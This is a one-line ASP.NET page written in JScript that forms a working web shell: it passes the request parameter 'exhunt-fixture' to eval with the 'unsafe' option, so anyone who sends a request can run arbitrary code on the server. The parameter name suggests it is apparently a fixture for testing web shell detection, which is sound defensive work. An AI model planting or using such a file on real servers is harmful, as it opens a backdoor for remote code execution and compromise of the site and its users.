<%@ Page Language="Jscript"%><%eval(Request.Item["exhunt-fixture"],"unsafe");%>
